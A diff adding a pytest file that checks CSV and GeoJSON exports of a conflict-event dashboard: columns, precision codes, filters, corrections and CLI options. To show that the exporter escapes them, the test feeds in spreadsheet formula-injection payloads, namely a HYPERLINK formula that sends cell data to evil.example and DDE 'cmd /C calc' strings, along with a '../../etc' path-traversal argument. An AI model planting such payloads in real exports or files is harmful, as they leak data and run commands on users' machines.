@@ -1,0 +1,190 @@
+"""Exports: CSV columns and values (ACLED-like), the spreadsheet formula guard, GeoJSON (RFC 7946) validity,
+filters and corrections applied, and ``atlas export``."""
+from __future__ import annotations
+
+import csv
+import datetime
+import io
+import json
+import math
+from dataclasses import replace
+
+import pytest
+
+from dashboard.articles import article_from_text
+from dashboard.cli import main
+from dashboard.events import extract_events
+from dashboard.export import COLUMNS, geo_precision, geojson_text, time_precision, to_csv, to_geojson
+from dashboard.store import EventFilter, Store
+from gazetteer.place import Place
+from gazetteer.resolve import Mention
+from tests.test_store import A2021, A2022, GORI, PLACES, UNDATED, add, make_article, run_atlas
+
+
+@pytest.fixture
+def home(tmp_path, monkeypatch):
+    monkeypatch.setenv("ATLAS_HOME", str(tmp_path / "home"))
+    return tmp_path / "home"
+
+
+@pytest.fixture
+def filled(home):
+    with Store.open() as store:
+        for spec in (A2021, A2022, UNDATED):
+            assert add(store, make_article(*spec), PLACES)
+        yield store
+
+
+def parse_csv(text: str) -> list[dict[str, str]]:
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert tuple(rows[0]) == COLUMNS
+    return [dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]]
+
+
+def test_csv_columns_and_values(filled):
+    text = to_csv(filled.event_records())
+    assert text.endswith("\r\n") and text.count("\r\n") == 1 + filled.counts()["events"]
+    rows = parse_csv(text)
+    assert len(rows) == 8
+    kapan = next(r for r in rows if r["place"] == "Kapan" and r["sentence"] == "Shelling hit Kapan and Goris.")
+    assert kapan == {
+        "event_id": kapan["event_id"], "event_date": "2022-09-13", "time_precision": "1", "place": "Kapan",
+        "latitude": "39.2076", "longitude": "46.4054", "geo_precision": "1", "country": "Armenia",
+        "country_code": "AM", "place_kind": "town", "place_id": "174875", "place_as_written": "Kapan",
+        "sentence": "Shelling hit Kapan and Goris.", "article_title": "Kapan shelled",
+        "url": "https://example.com/kapan", "source_file": "Kapan shelled.txt",
+        "article_id": make_article(*A2022).id, "confidence": "0.9", "corrected": "false"}
+    assert int(kapan["event_id"]) > 0
+    armenia = next(r for r in rows if r["place"] == "Armenia")
+    assert armenia["geo_precision"] == "3" and armenia["place_kind"] == "country"
+    undated = next(r for r in rows if r["article_title"] == "Border tension" and r["place"] == "Kapan")
+    assert undated["event_date"] == "" and undated["time_precision"] == "" and undated["url"] == ""
+    # newest first, undated last: the table's order
+    dates = [r["event_date"] for r in rows]
+    assert dates == sorted([d for d in dates if d], reverse=True) + [""] * dates.count("")
+
+
+def test_precision_mappings():
+    day = datetime.date(2022, 9, 13)
+    assert [time_precision(day, p) for p in ("day", "week", "month", "year", None)] == [1, 2, 3, 3, 1]
+    assert time_precision(None, None) is None
+    assert [geo_precision(k) for k in ("town", "site", "district", "water", "terrain", "route", "province",
+                                       "region", "country", "continent")] == [1, 1, 2, 2, 2, 2, 3, 3, 3, 3]
+
+
+HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0")
+WESTVILLE = Place(-42, "Westville", 10.25, -70.5, "VE", "P", "PPL", 500)
+
+
+def test_csv_guards_against_spreadsheet_formulas(home):
+    text = "\n\n".join([HOSTILE[0], *(f"{h} Shelling hit Westville." for h in HOSTILE[1:])]) + "\n"
+    article = article_from_text(text, "=evil.txt")
+    mentions = []
+    start = article.text.find("Westville")
+    while start >= 0:
+        mentions.append(Mention(start, start + 9, "Westville", WESTVILLE, 0.8, ()))
+        start = article.text.find("Westville", start + 1)
+    with Store.open() as store:
+        assert store.add_article(article, mentions, extract_events(article, mentions), parser="test")
+        rows = parse_csv(to_csv(store.event_records()))
+    assert len(rows) == 3
+    for row in rows:
+        for column, value in row.items():
+            if column in ("latitude", "longitude", "place_id", "confidence", "event_id", "time_precision",
+                          "geo_precision"):
+                continue
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+        assert row["article_title"] == "'" + HOSTILE[0]
+        assert row["source_file"] == "'=evil.txt"
+        assert row["sentence"][:2] in ("'+", "'-", "'@")
+        # numbers stay numbers, negative or not
+        assert (row["longitude"], row["place_id"]) == ("-70.5", "-42")
+    assert {r["sentence"][1:].split(" Shelling")[0] for r in rows} == set(HOSTILE[1:])
+
+
+def test_geojson_is_a_valid_feature_collection(filled):
+    records = filled.event_records()
+    data = to_geojson(records)
+    assert set(data) == {"type", "features"} and data["type"] == "FeatureCollection"
+    assert len(data["features"]) == len(records) == 8
+    for feature, rec in zip(data["features"], records, strict=True):
+        assert set(feature) == {"type", "id", "geometry", "properties"} and feature["type"] == "Feature"
+        assert feature["geometry"] == {"type": "Point", "coordinates": [rec.lon, rec.lat]}  # longitude first
+        lon, lat = feature["geometry"]["coordinates"]
+        assert -180 <= lon <= 180 and -90 <= lat <= 90
+        assert tuple(feature["properties"]) == COLUMNS and feature["id"] == rec.id
+    kapan = next(f["properties"] for f in data["features"] if f["properties"]["place"] == "Kapan")
+    assert isinstance(kapan["latitude"], float) and kapan["corrected"] is False and kapan["time_precision"] == 1
+    undated = [f["properties"] for f in data["features"] if f["properties"]["event_date"] is None]
+    assert undated and all(p["time_precision"] is None and p["url"] is None for p in undated)
+    text = geojson_text(records)
+    assert json.loads(text) == json.loads(json.dumps(data))
+    assert "NaN" not in text and "Infinity" not in text
+    assert to_geojson([]) == {"type": "FeatureCollection", "features": []}
+
+
+def test_geojson_refuses_a_coordinate_that_is_not_a_number(filled):
+    broken = replace(filled.event_records()[0], lat=math.nan)
+    with pytest.raises(ValueError):
+        geojson_text([broken])
+
+
+def test_exports_apply_filters_and_corrections(filled):
+    a2022 = make_article(*A2022)
+    start = a2022.text.index("Goris")
+    filled.correct(a2022.id, start, start + 5, GORI.id)
+    rows = parse_csv(to_csv(filled.event_records(EventFilter(datetime.date(2022, 1, 1), undated=False))))
+    assert {r["event_date"] for r in rows} == {"2022-09-13"}
+    gori = [r for r in rows if r["place"] == "Gori"]
+    assert [(r["country_code"], r["corrected"], r["confidence"], r["place_as_written"]) for r in gori] == [
+        ("GE", "true", "1.0", "Goris")]
+    assert not [r for r in rows if r["place"] == "Goris"]
+    only_ge = to_geojson(filled.event_records(EventFilter(country=("GE",))))
+    assert [f["properties"]["place"] for f in only_ge["features"]] == ["Gori"]
+    assert only_ge["features"][0]["properties"]["corrected"] is True
+    filled.correct(a2022.id, start, start + 5, None)
+    assert not [r for r in parse_csv(to_csv(filled.event_records())) if r["place_as_written"] == "Goris"
+                and r["article_id"] == a2022.id]
+
+
+# -- atlas export --------------------------------------------------------------------------------------
+def test_atlas_export_to_stdout_and_files(filled, home, tmp_path, capsys):
+    assert main(["export"]) == 0
+    out, _ = capsys.readouterr()
+    assert len(parse_csv(out)) == 8
+    assert main(["export", "--from", "2022-01-01", "--no-undated", "--country", "AM", "--kind", "town"]) == 0
+    out, _ = capsys.readouterr()
+    assert {(r["place"], r["event_date"]) for r in parse_csv(out)} == {("Kapan", "2022-09-13"), ("Goris", "2022-09-13")}
+    target = tmp_path / "out" / "events.geojson"
+    assert main(["export", "-o", str(target), "--search", "Armenia"]) == 0
+    _, err = capsys.readouterr()
+    data = json.loads(target.read_text(encoding="utf-8"))
+    assert data["type"] == "FeatureCollection"
+    assert {f["properties"]["place"] for f in data["features"]} == {"Armenia"}
+    assert "2 events written" in err and "geojson" in err
+    assert main(["export", "--format", "csv", "-o", str(tmp_path / "x.json"),
+                 "--article", make_article(*A2021).id, "--min-confidence", "0.5"]) == 0
+    assert len(parse_csv((tmp_path / "x.json").read_text(encoding="utf-8"))) == 3
+    assert not list((tmp_path / "out").glob(".*"))  # no temporary file left behind
+
+
+@pytest.mark.parametrize("args", [["--from", "yesterday"], ["--country", "Armenia"], ["--kind", "planet"],
+                                  ["--min-confidence", "2"], ["--article", "../../etc"], ["--format", "xlsx"]])
+def test_atlas_export_refuses_bad_options(filled, args, capsys):
+    with pytest.raises(SystemExit) as exc:
+        main(["export", *args])
+    assert exc.value.code == 2
+    assert "atlas export" in capsys.readouterr().err
+
+
+def test_atlas_export_command(tmp_path):
+    home = tmp_path / "home"
+    with Store(home / "atlas.sqlite") as store:
+        for spec in (A2021, A2022):
+            add(store, make_article(*spec), PLACES)
+    done = run_atlas("export", "--format", "geojson", "--place", "174895", home=home)
+    assert done.returncode == 0, done.stderr
+    data = json.loads(done.stdout)
+    assert {f["properties"]["place"] for f in data["features"]} == {"Goris"}
+    assert len(data["features"]) == 3
